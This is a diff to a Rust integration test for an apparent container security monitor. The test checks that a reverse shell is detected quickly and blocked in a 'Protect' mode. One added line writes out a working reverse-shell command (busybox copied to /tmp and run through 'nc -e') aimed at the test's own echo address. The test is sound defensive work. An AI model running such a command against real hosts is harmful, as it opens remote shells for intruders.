@@ -54,7 +54,7 @@ async fn processes(scene: &Scene, route: &str) -> Result<Vec<Value>> {
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
-async fn a_reverse_shell_is_told_within_a_second() -> Result<()> {
+async fn a_reverse_shell_is_told_within_a_second_and_stopped_in_protect() -> Result<()> {
     let scene = Scene::start("shell").await?;
     let echo = scene.echo_address()?;
     // The shell gets back what it says, and says nothing.
@@ -70,6 +70,17 @@ async fn a_reverse_shell_is_told_within_a_second() -> Result<()> {
     println!("reverse shell told {took:?} after the exec was asked for");
     ensure!(took < PROMISED + SOON / 5, "told after {took:?}");
     told(&scene, "network_tool", "/bin/busybox", "Container.Suspicious.Process", "T1095").await?;
+
+    // In Protect the profile stops what it does not list, and the incident says so.
+    scene.operate().await?;
+    scene.wait_learned().await?;
+    scene.set_mode("Protect").await?;
+    let attack = format!("cp /bin/busybox /tmp/shell; timeout 4 nc {echo} 7 -e /tmp/shell; true");
+    scene.run(&["/bin/sh", "-c", &attack]).await?;
+    let (record, _) =
+        told(&scene, "remote_shell", "/tmp/shell", "Container.Suspicious.Process", "T1059.004").await?;
+    ensure!(text(&record, "action") == "deny" && text(&record, "level") == "Critical", "{record}");
+    ensure!(text(&record, "message").starts_with("Stopped"), "{record}");
     scene.stop().await
 }
 
